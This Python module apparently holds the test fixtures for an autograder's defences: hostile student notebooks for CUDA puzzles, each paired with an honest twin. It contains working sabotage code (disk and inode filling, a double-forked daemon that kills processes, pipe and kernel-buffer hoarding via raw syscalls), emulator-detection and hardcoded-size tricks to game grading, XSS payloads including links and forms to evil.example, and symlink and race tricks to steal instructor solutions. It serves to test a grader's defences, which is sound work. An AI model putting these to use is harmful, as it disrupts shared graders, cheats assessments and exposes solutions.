"""The hostile class of the warm-up puzzles: each attack a student's notebook, each beside its honest twin.

A notebook here holds one puzzle's cells (the others deleted, as a student who did one puzzle may hand in),
so that grading a student costs one puzzle's grading: the whole class, attackers and twins, is graded in
one ``autograder grade`` (test_hostile_class.py).  Every kernel cell is the released ``%%cuda`` cell of
its puzzle with the student's code in it; the host code some attacks add (a global object whose
constructor runs when the emulator's worker starts, before any check) is what an emulator would run and
a GPU never does.  ``ATTACKS`` names, per student, the class of attack, the puzzle, the honest twin (the
same notebook without the trick: for a trick that makes a kernel compute only where it is not graded on a
GPU, the branch nvcc compiles) and what it tries.  The collect attacks are exchange folders, not
students of their own: ``COLLECT_ATTACKS``.
"""

from __future__ import annotations

from dataclasses import dataclass

ASSIGNMENT = "00_puzzles"
NOTEBOOK = "puzzles"

# ----------------------------------------------------------------- honest kernels

MAP = """\
%%cuda map
__global__ void map(const float* a, float* out)
{
    int i = threadIdx.x;
    out[i] = 2.0f * a[i] + 1.0f;
}
"""

DOT = """\
%%cuda dot
__global__ void dot(const float* a, const float* b, float* out, int n)
{
    __shared__ float products[8];
    int t = threadIdx.x, i = blockIdx.x * blockDim.x + t;
    products[t] = i < n ? a[i] * b[i] : 0.0f;
    __syncthreads();
    if (t == 0) {
        float sum = 0.0f;
        for (int k = 0; k < blockDim.x; ++k) {
            sum += products[k];
        }
        atomicAdd(out, sum);
    }
}
"""

# The system calls the host code makes, by number (x86-64), declared by hand: no header a kernel may include has them.
_SYSCALL = 'extern "C" long syscall(long number, ...);\n'
#: Each of a process's descriptors closed: a process left behind holds no pipe of the grader's, which would keep
#: the grader waiting for the end of its output.
_CLOSE_ALL = "for (int fd = 0; fd < 1024; ++fd) syscall(3, fd);\n"


def _with_constructor(kernel: str, body: str, declarations: str = "") -> str:
    """``kernel`` with host code that runs before any check: ``body`` in a global object's constructor."""
    head, rest = kernel.split("\n", 1)
    return (f"{head}\n{_SYSCALL}{declarations}struct Attack {{ Attack() {{\n{body}}} }} attack_at_startup;\n\n"
            f"{rest}")


# ------------------------------------------------------------ 2. disk and leftovers

#: Five files of 256 MiB into a scratch space of 1 GiB.
FILLS_SCRATCH = _with_constructor(MAP, (
    "static char block[1 << 20]; memset(block, 7, sizeof block);\n"
    "for (int part = 0; part < 5; ++part) {\n"
    '    char name[32]; snprintf(name, sizeof name, "ballast-%d", part); FILE* f = fopen(name, "w");\n'
    "    for (int k = 0; f && k < 256; ++k) fwrite(block, 1, sizeof block, f);\n"
    "    if (f) fclose(f);\n"
    "}\n"))

#: 25,000 empty files: no block of the scratch space's, an inode each.
FILLS_INODES = _with_constructor(MAP, (
    'char name[32]; for (int k = 0; k < 25000; ++k) { snprintf(name, sizeof name, "e%d", k); FILE* f = fopen(name, "w"); '
    "if (f) fclose(f); }\n"))

#: Where a grading could leave something for the next: its own folder, the machine's temporary folders, shared memory.
_PLACES = '"left-behind", "/tmp/left-behind", "/var/tmp/left-behind", "/dev/shm/left-behind", "/run/left-behind"'

#: Writes the answer's key everywhere it can, and leaves a daemon (forked twice, in a session of its own, holding
#: nothing of the grader's) that writes it again for a minute and, once its own grading is over, kills every
#: process its user may signal: the next gradings', were they to run as the same user in the same namespace.
LEAVES_A_DAEMON = _with_constructor(MAP, (
    f"const char* places[] = {{{_PLACES}}};\n"
    'for (const char* p : places) { FILE* f = fopen(p, "w"); if (f) { fputs("2a+1", f); fclose(f); } }\n'
    "if (syscall(57) == 0) {\n"                         # fork
    "    syscall(112);\n"                               # setsid
    "    if (syscall(57) == 0) {\n"                     # fork again: no parent waits for it
    f"        {_CLOSE_ALL}"
    "        struct { long s, ns; } tick = {0, 100000000};\n"
    "        for (int k = 0; k < 600; ++k) {\n"
    '            for (const char* p : places) { FILE* f = fopen(p, "w"); if (f) { fputs("2a+1", f); fclose(f); } }\n'
    "            if (k > 50) syscall(62, -1, 9);\n"      # kill(-1, SIGKILL)
    "            syscall(35, &tick, 0);\n"               # nanosleep
    "        }\n"
    "    }\n"
    "    syscall(60, 0);\n"                             # exit
    "}\n"))

#: Computes the map only where it finds what an earlier grading left: its twin is the stub (it computes nothing
#: of its own), so any point it earns came from another student's grading.
READS_LEFTOVERS = _with_constructor(MAP.replace("    out[i] = 2.0f * a[i] + 1.0f;", (
    "    if (found_leftover) out[i] = 2.0f * a[i] + 1.0f;")), (
    f"const char* places[] = {{{_PLACES}}};\n"
    'for (const char* p : places) { FILE* f = fopen(p, "r"); if (f) { found_leftover = 1; fclose(f); } }\n'),
    declarations="static volatile int found_leftover = 0;\n")

# ------------------------------------------------------------------------ 3. memory

#: 24 processes, each holding every pipe its descriptors allow, full (memory no process's resident set shows),
#: and pausing; the first process grades as usual.
PIPE_HOARD = _with_constructor(MAP, (
    "static char block[65536]; memset(block, 1, sizeof block);\n"
    "for (int k = 0; k < 24; ++k) {\n"
    "    if (syscall(57) != 0) continue;\n"            # fork: the child hoards, the parent goes on
    f"    {_CLOSE_ALL}"
    "    for (;;) { int q[2]; if (syscall(293, q, 04000) != 0) break; syscall(1, q[1], block, sizeof block); }\n"
    "    for (;;) syscall(34);\n"                      # pause(), holding the pipes
    "}\n"))

#: Memory in kernel buffers: a socket pair's queues, a TCP socket, System V shared memory and message queues, a
#: pipe grown to a megabyte, each filled where it was granted.  Its kernel then writes the map only where every
#: one of them was refused, so that its score says what it got: its twin's points, or nothing.
KERNEL_BUFFERS = _with_constructor(MAP.replace("    out[i] = 2.0f * a[i] + 1.0f;", (
    "    if (all_refused) out[i] = 2.0f * a[i] + 1.0f;")), (
    "static char block[65536]; memset(block, 1, sizeof block);\n"
    "int pair[2]; long sp = syscall(53, 1, 1 | 04000, 0, pair);\n"          # socketpair(AF_UNIX, non-blocking)
    "if (sp == 0) for (int k = 0; k < 4096; ++k) if (syscall(1, pair[0], block, sizeof block) <= 0) break;\n"
    "long tcp = syscall(41, 2, 1, 0);\n"                                     # socket(AF_INET, SOCK_STREAM)
    "long shm = syscall(29, 0, 256 << 20, 01000 | 0600);\n"                  # shmget(IPC_PRIVATE, 256 MiB)
    "long mq = syscall(68, 0, 01000 | 0600);\n"                              # msgget(IPC_PRIVATE)
    "int p[2]; syscall(22, p); long grown = syscall(72, p[1], 1031, 1 << 20);\n"  # F_SETPIPE_SZ, 1 MiB
    "all_refused = sp < 0 && tcp < 0 && shm < 0 && mq < 0 && grown < 0;\n"),
    declarations="static volatile int all_refused = 0;\n")

# ------------------------------------------------------------------ 4. approximation

#: The first half of the products, doubled.
DOT_HALF = DOT.replace("products[t] = i < n ? a[i] * b[i] : 0.0f;",
                       "products[t] = i < (n + 1) / 2 ? 2.0f * a[i] * b[i] : 0.0f;")
#: Every product but one in 64, scaled up by 64/63.
DOT_SAMPLED = DOT.replace("products[t] = i < n ? a[i] * b[i] : 0.0f;",
                          "products[t] = i < n && i % 64 != 63 ? a[i] * b[i] * (64.0f / 63.0f) : 0.0f;")

# ------------------------------------------------------------------ 5. compiler identity

_MAP_BODY = "    out[i] = 2.0f * a[i] + 1.0f;\n"


def _only_where(test: str) -> str:
    """The map, computed only where the preprocessor's ``test`` holds (the emulator, the attack hopes)."""
    return MAP.replace(_MAP_BODY, f"#if {test}\n{_MAP_BODY}#endif\n")


NVCC_TELL = _only_where("!defined(__NVCC__) || !defined(__CUDA_ARCH__)")
#: What g++ predefines for the emulator's own options (AddressSanitizer, -O1, -pthread) and nvcc's device pass does not.
HOST_COMPILER_TELL = _only_where(
    "defined(__SANITIZE_ADDRESS__) || defined(__OPTIMIZE__) || defined(_REENTRANT) || !defined(__NO_INLINE__)")
#: A header only the emulator's folder holds.
HEADER_TELL = _only_where('__has_include("prelude.h")')

# -------------------------------------------------------------------- 6. hidden sizes


def special_cased(sizes: set[int]) -> str:
    """The map right only for the sizes it knows (one block of n threads: n is blockDim.x), zeros elsewhere."""
    known = " || ".join(f"blockDim.x == {n}" for n in sorted(sizes))
    return MAP.replace(_MAP_BODY, f"    out[i] = ({known}) ? 2.0f * a[i] + 1.0f : 0.0f;\n")


# ------------------------------------------------------------------- 7. feedback HTML

#: Each would run script, load a frame or reach another address in the feedback page, were it passed on.
HOSTILE_MARKDOWN = (
    '<img src="x" onerror="document.title=\'PWNED\'">\n\n'
    '<iframe srcdoc="<script>parent.document.title=\'PWNED\'</script>"></iframe>\n\n'
    "<script>document.title='PWNED'</script>\n\n"
    '<svg onload="document.title=\'PWNED\'"><circle r="5"/></svg>\n\n'
    '<a href="javascript:document.title=\'PWNED\'">my notes</a>\n\n'
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">\n\n'
    '<form action="https://evil.example/"><input name="a"></form>\n\n'
    "<style>body { background: url(https://evil.example/leak) }</style>\n")
#: A saved output of a student's own cell (nbformat lets the notebook carry any): HTML and JavaScript.
HOSTILE_OUTPUTS = ({"text/html": '<div><img src=x onerror="document.title=\'PWNED\'"><script>alert(1)</script></div>'},
                   {"application/javascript": "document.title = 'PWNED';"})
#: The same notebook's honest markdown.
HONEST_MARKDOWN = "My map: one thread per element, `out[i] = 2 a[i] + 1`.\n"

#: A kernel that does not compile, at a line holding markup: the compiler's message quotes it in the feedback.
MARKUP_IN_THE_COMPILER_MESSAGE = MAP.replace(
    _MAP_BODY, "    out[i] = 2.0f * a[i] + 1.0f <img src=x onerror=\"document.title='PWNED'\"><script>alert(1)</script>;\n")


# ----------------------------------------------------------------------- the class

@dataclass(frozen=True)
class Attack:
    kind: str        # the class of attack (the report's numbering)
    puzzle: str      # the one puzzle the notebook holds
    twin: str        # the honest twin's student name
    what: str
    markdown: str = ""
    outputs: tuple = ()


#: Honest notebooks: the twins, and the released stub (None), which is what nvcc compiles of a kernel whose right
#: branch only the emulator would take.
TWINS = {"twin_map": ("map", MAP), "twin_dot": ("dot", DOT), "stub_map": ("map", None)}

#: student -> (its attack, its kernel cell).  The students are graded in the order of their names: the one that
#: leaves a daemon before the one that looks for what it left, both before the twins.
ATTACKS = {
    "fills_scratch": (Attack("disk", "map", "twin_map", "writes 1.25 GiB into its 1 GiB scratch space"), FILLS_SCRATCH),
    "fills_inodes": (Attack("disk", "map", "twin_map", "makes 25,000 empty files"), FILLS_INODES),
    "leaves_a_daemon": (Attack("disk", "map", "twin_map", "leaves files in every folder it can write and a daemon "
                               "that writes them again and kills what its user may signal"), LEAVES_A_DAEMON),
    "looks_for_leftovers": (Attack("disk", "map", "stub_map", "computes only where it finds what the grading "
                                   "before it left"), READS_LEFTOVERS),
    "pipe_hoard": (Attack("memory", "map", "twin_map", "24 processes holding full pipes (no resident memory)"),
                   PIPE_HOARD),
    "kernel_buffers": (Attack("memory", "map", "twin_map", "socket pair, TCP socket, System V memory and queues, a "
                              "1 MiB pipe, filled where granted"), KERNEL_BUFFERS),
    "dot_half": (Attack("approximation", "dot", "twin_dot", "sums the first half of the products, doubled"), DOT_HALF),
    "dot_sampled": (Attack("approximation", "dot", "twin_dot", "skips one product in 64, scaled by 64/63"),
                    DOT_SAMPLED),
    "nvcc_tell": (Attack("compiler", "map", "stub_map", "computes only where #ifndef __NVCC__ / __CUDA_ARCH__"),
                  NVCC_TELL),
    "host_compiler_tell": (Attack("compiler", "map", "stub_map", "computes only where g++'s options show "
                                  "(__SANITIZE_ADDRESS__, __OPTIMIZE__, _REENTRANT, no __NO_INLINE__)"),
                           HOST_COMPILER_TELL),
    "header_tell": (Attack("compiler", "map", "stub_map", "computes only where __has_include(\"prelude.h\")"),
                    HEADER_TELL),
    "markup_in_markdown": (Attack("html", "map", "twin_map", "script, frames, handlers, links, a refresh and a form "
                                  "in markdown; HTML and JavaScript outputs", markdown=HOSTILE_MARKDOWN,
                                  outputs=HOSTILE_OUTPUTS), MAP),
    "markup_in_messages": (Attack("html", "map", "stub_map", "a compile error at a line holding markup, which the "
                                  "compiler's message quotes"), MARKUP_IN_THE_COMPILER_MESSAGE),
}

#: The hidden-sizes attack: its kernel is made by the test from the sizes its first grading drew.
TUNED = "tuned_to_sizes"
TUNED_ATTACK = Attack("hidden sizes", "map", "twin_map", "right only on the visible sizes, the public hidden ones "
                      "and its earlier submission's secret size")

#: The exchange folders of one student (this account, the only one the test can submit as), newest first: the
#: earliest is the honest twin's notebook; the others try to make collect bring the solutions.
COLLECT_ATTACKS = {
    "linked_folder": "the submission folder is a link to the instructor's solutions folder",
    "hard_link": "the notebook is a hard link to the instructor's solutions notebook",
    "swapped_while_read": "a process swaps the notebook for a link to the solutions and back while collect reads it",
}
#: A folder named after another student (who submitted the honest dot), made by this account: a blank notebook.
IMPERSONATED = "twin_dot"
